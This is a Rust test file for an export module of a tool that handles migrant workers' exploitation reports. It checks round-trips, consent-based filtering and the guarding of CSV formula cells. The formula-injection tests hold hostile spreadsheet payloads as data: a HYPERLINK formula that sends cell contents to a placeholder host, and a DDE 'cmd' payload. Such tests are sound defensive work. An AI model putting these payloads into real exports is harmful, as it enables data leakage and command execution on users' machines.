//! Exports: CSV and JSON (own format and HTCDS names) parse back to exactly what was exported,
//! free text and contact fields appear only when asked for, an export for an inspectorate or
//! an NGO holds only the cases whose worker consented, and CSV cells cannot be formulas.

use crate::common::*;
use workvoice_desk::Desk;
use workvoice_desk::DeskError;
use workvoice_desk::export::{
    CsvCase, ExportAudience, ExportCase, ExportFormat, ExportOptions, HtcdsCase, export_cases,
    read_csv,
};
use workvoice_desk::store::CaseFilter;
use workvoice_proto::keys::OrgId;

async fn expected(desk: &Desk, filter: &CaseFilter, options: ExportOptions) -> Vec<ExportCase> {
    let mut out = Vec::new();
    for id in desk.store().filtered_case_ids(filter).await.unwrap() {
        let case = desk.store().case(id).await.unwrap();
        out.push(ExportCase::new(
            &case,
            &Desk::report_of(&case).unwrap(),
            options,
        ));
    }
    out
}

#[tokio::test]
async fn csv_and_json_round_trip() {
    let (_dir, desk) = fresh_desk().await;
    let reports = seed_local(&desk, OrgId([3; 16]), 12).await;
    let filter = CaseFilter::default();
    for options in [
        ExportOptions::default(),
        ExportOptions {
            include_free_text: true,
            include_contact: true,
            audience: ExportAudience::Internal,
        },
    ] {
        let want = expected(&desk, &filter, options).await;
        assert_eq!(want.len(), 12);

        let json = export_cases(&desk, &filter, ExportFormat::Json, options)
            .await
            .unwrap();
        let back: Vec<ExportCase> = serde_json::from_slice(&json).unwrap();
        assert_eq!(back, want);

        let csv = export_cases(&desk, &filter, ExportFormat::Csv, options)
            .await
            .unwrap();
        let back: Vec<CsvCase> = read_csv(&csv).unwrap();
        let want_csv: Vec<CsvCase> = want.iter().map(CsvCase::from).collect();
        assert_eq!(back, want_csv);

        let text = String::from_utf8(csv).unwrap();
        let nepali = &reports[0].free_text;
        assert_eq!(text.contains(nepali.as_str()), options.include_free_text);
        assert!(
            text.lines().next().unwrap().contains("free_text"),
            "the column is always named"
        );
        assert_eq!(
            back.iter().all(|c| c.contact_wanted.is_some()),
            options.include_contact
        );
        assert_eq!(
            back.iter().all(|c| c.free_text.is_some()),
            options.include_free_text
        );
    }
    // The fee totals are per currency, in major units with the currency's exponent.
    let all = expected(&desk, &filter, ExportOptions::default()).await;
    let nepali = all
        .iter()
        .find(|c| c.report_id == reports[0].report_id.to_hex())
        .unwrap();
    let npr = nepali
        .fee_totals
        .iter()
        .find(|m| m.currency == "NPR")
        .unwrap();
    assert_eq!(npr.amount, "185000.00");
    assert_eq!(npr.amount_minor, 18_500_000);
}

#[tokio::test]
async fn htcds_exports_use_the_standards_names_and_round_trip() {
    let (_dir, desk) = fresh_desk().await;
    seed_local(&desk, OrgId([4; 16]), 6).await;
    let filter = CaseFilter {
        destination: Some("QA".into()),
        ..CaseFilter::default()
    };
    let options = ExportOptions::default();
    let json = export_cases(&desk, &filter, ExportFormat::HtcdsJson, options)
        .await
        .unwrap();
    let rows: Vec<serde_json::Value> = serde_json::from_slice(&json).unwrap();
    assert_eq!(rows.len(), 2, "only the cases in Qatar");
    let first = rows[0].as_object().unwrap();
    for field in [
        "cas_Status",
        "vic_MethodsOfControl",
        "vic_TypeOfLabourExploitation",
        "vic_LabourIndustry",
        "hte_Exploitation_Country",
        "per_Recruiter_Organisation",
    ] {
        assert!(first.contains_key(field), "missing {field}");
    }
    assert_eq!(first["hte_Exploitation_Country"], "QA");
    assert_eq!(first["vic_LabourIndustry"], "F_Construction");
    assert!(
        first["hte_Exploitation_Description"].is_null(),
        "no free text unless asked"
    );
    let typed: Vec<HtcdsCase> = serde_json::from_slice(&json).unwrap();
    let csv = export_cases(&desk, &filter, ExportFormat::HtcdsCsv, options)
        .await
        .unwrap();
    let back: Vec<HtcdsCase> = read_csv(&csv).unwrap();
    assert_eq!(back, typed);
    let header = String::from_utf8(csv).unwrap();
    assert!(header.starts_with("cas_Status,"));
    let methods: Vec<&str> = typed
        .iter()
        .map(|c| c.vic_methods_of_control.as_str())
        .collect();
    assert!(
        methods.iter().any(|m| m.contains("WithholdsDocuments")),
        "{methods:?}"
    );
}

#[tokio::test]
async fn exports_for_outside_organisations_hold_only_consented_cases() {
    let (_dir, desk) = fresh_desk().await;
    let reports = seed_local(&desk, OrgId([3; 16]), 12).await;
    let filter = CaseFilter::default();
    let ids = |cases: &[ExportCase]| {
        let mut ids: Vec<String> = cases.iter().map(|c| c.report_id.clone()).collect();
        ids.sort();
        ids
    };
    let consented = |pick: fn(&workvoice_proto::routing::Consent) -> bool| {
        let mut ids: Vec<String> = reports
            .iter()
            .filter(|r| pick(&r.consent))
            .map(|r| r.report_id.to_hex())
            .collect();
        ids.sort();
        ids
    };
    let to_inspectorate = consented(|c| c.inspectorate);
    let to_ngo = consented(|c| c.ngo);
    // The samples mix consents, so the filter is seen to do something.
    assert!(!to_inspectorate.is_empty() && to_inspectorate.len() < reports.len());
    assert!(!to_ngo.is_empty() && to_ngo.len() < reports.len());

    for (audience, want) in [
        (ExportAudience::Inspectorate, to_inspectorate),
        (ExportAudience::Ngo, to_ngo),
        (
            ExportAudience::Research,
            ids(&expected(&desk, &filter, ExportOptions::default()).await),
        ),
        (
            ExportAudience::Internal,
            ids(&expected(&desk, &filter, ExportOptions::default()).await),
        ),
    ] {
        let options = ExportOptions {
            audience,
            ..ExportOptions::default()
        };
        let json = export_cases(&desk, &filter, ExportFormat::Json, options)
            .await
            .unwrap();
        let back: Vec<ExportCase> = serde_json::from_slice(&json).unwrap();
        assert_eq!(ids(&back), want, "{audience:?}");
        let htcds = export_cases(&desk, &filter, ExportFormat::HtcdsCsv, options)
            .await
            .unwrap();
        let rows: Vec<HtcdsCase> = read_csv(&htcds).unwrap();
        assert_eq!(rows.len(), want.len(), "{audience:?}");
    }

    // Researchers never get the worker's words or contact fields.
    for (free_text, contact) in [(true, false), (false, true)] {
        let refused = export_cases(
            &desk,
            &filter,
            ExportFormat::Csv,
            ExportOptions {
                include_free_text: free_text,
                include_contact: contact,
                audience: ExportAudience::Research,
            },
        )
        .await;
        assert!(
            matches!(refused, Err(DeskError::InvalidInput(_))),
            "{refused:?}"
        );
    }
}

#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_guarded() {
    use workvoice_proto::vectors::DeterministicRng;
    let (_dir, desk) = fresh_desk().await;
    let mut rng = DeterministicRng::new("formula");
    let hostile = [
        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "'=already quoted",
    ];
    let key = desk.keys()[0].public_key;
    let mut entries = Vec::new();
    for (i, text) in hostile.iter().enumerate() {
        let (mut report, _) = sample(i, &mut rng);
        if let Some(recruiter) = report.recruiter.as_mut() {
            recruiter.name = text.to_string();
        }
        report.free_text = text.to_string();
        entries.push(entry_for(
            i as u64 + 1,
            &report,
            OrgId([3; 16]),
            key,
            &mut rng,
        ));
    }
    let (stored, failed) = desk.open_and_store(OrgId([3; 16]), &entries).await.unwrap();
    assert_eq!((stored.len(), failed), (hostile.len(), 0));

    let options = ExportOptions {
        include_free_text: true,
        ..ExportOptions::default()
    };
    let filter = CaseFilter::default();
    for format in [ExportFormat::Csv, ExportFormat::HtcdsCsv] {
        let bytes = export_cases(&desk, &filter, format, options).await.unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(bytes.as_slice());
        let mut seen = 0;
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{format:?}: a cell a spreadsheet would run: {cell:?}"
                );
                if hostile.iter().any(|h| cell == format!("'{h}")) {
                    seen += 1;
                }
            }
        }
        assert!(
            seen >= hostile.len(),
            "{format:?}: every hostile text is there, guarded"
        );
    }
    // Reading the file back gives the worker's text exactly.
    let bytes = export_cases(&desk, &filter, ExportFormat::Csv, options)
        .await
        .unwrap();
    let back: Vec<CsvCase> = read_csv(&bytes).unwrap();
    let mut names: Vec<String> = back
        .iter()
        .filter_map(|c| c.recruiter_name.clone())
        .collect();
    let mut want: Vec<String> = hostile.iter().map(|h| h.to_string()).collect();
    names.sort();
    want.sort();
    assert_eq!(names, want);
}

/// Every character a spreadsheet may skip or read as a formula sign before it decides, each at
/// the start of a worker's text: guarded in the CSV file, given back exactly by `read_csv`.
#[tokio::test]
async fn cells_starting_with_space_newline_invisible_or_fullwidth_signs_are_guarded() {
    use workvoice_desk::export::{guard_cell, starts_like_a_formula, unguard_cell};
    use workvoice_proto::vectors::DeterministicRng;
    let starts = [
        (" ", "space"),
        ("\n", "newline"),
        ("\r", "carriage return"),
        ("\t", "tab"),
        ("\u{00A0}", "no-break space"),
        ("\u{202F}", "narrow no-break space"),
        ("\u{3000}", "ideographic space"),
        ("\u{200B}", "zero-width space"),
        ("\u{200D}", "zero-width joiner"),
        ("\u{2060}", "word joiner"),
        ("\u{FEFF}", "byte-order mark"),
        ("\u{FF1D}", "fullwidth equals"),
        ("\u{FF0B}", "fullwidth plus"),
        ("\u{FF0D}", "fullwidth minus"),
        ("\u{FF20}", "fullwidth at"),
        ("\u{FE66}", "small equals"),
        ("\u{2212}", "minus sign"),
    ];
    let texts: Vec<String> = starts
        .iter()
        .map(|(c, _)| format!("{c}=HYPERLINK(\"http://example.invalid\",\"x\")"))
        .chain(starts.iter().map(|(c, _)| format!("{c}SUM(1,2)")))
        .collect();
    for ((c, name), text) in starts.iter().zip(&texts) {
        assert!(
            starts_like_a_formula(c.chars().next().unwrap()),
            "{name} is a formula start"
        );
        assert_eq!(guard_cell(text), format!("'{text}"), "{name}");
        assert_eq!(unguard_cell(&guard_cell(text)), text, "{name}");
    }
    // Ordinary text is left alone.
    for plain in ["Sagarmatha Manpower", "ক্ষতিপূরণ", "12 months", "a = b", ""] {
        assert_eq!(guard_cell(plain), plain);
    }

    let (_dir, desk) = fresh_desk().await;
    let mut rng = DeterministicRng::new("formula starts");
    let key = desk.keys()[0].public_key;
    let entries: Vec<_> = texts
        .iter()
        .enumerate()
        .map(|(i, text)| {
            let (mut report, _) = sample(i, &mut rng);
            report.free_text = text.clone();
            entry_for(i as u64 + 1, &report, OrgId([4; 16]), key, &mut rng)
        })
        .collect();
    let (stored, failed) = desk.open_and_store(OrgId([4; 16]), &entries).await.unwrap();
    assert_eq!((stored.len(), failed), (texts.len(), 0));
    let options = ExportOptions {
        include_free_text: true,
        ..ExportOptions::default()
    };
    let filter = CaseFilter::default();
    let bytes = export_cases(&desk, &filter, ExportFormat::Csv, options)
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    for cell in &cells {
        assert!(
            !cell.chars().next().is_some_and(starts_like_a_formula) || cell.starts_with('\''),
            "an unguarded cell: {cell:?}"
        );
    }
    for ((_, name), text) in starts.iter().cycle().zip(&texts) {
        assert!(
            cells.contains(&format!("'{text}")),
            "{name}: the text is in the file, guarded"
        );
    }
    let mut back: Vec<String> = read_csv::<CsvCase>(&bytes)
        .unwrap()
        .into_iter()
        .filter_map(|c| c.free_text)
        .collect();
    let mut want = texts.clone();
    back.sort();
    want.sort();
    assert_eq!(back, want, "read_csv gives each text back exactly");
}
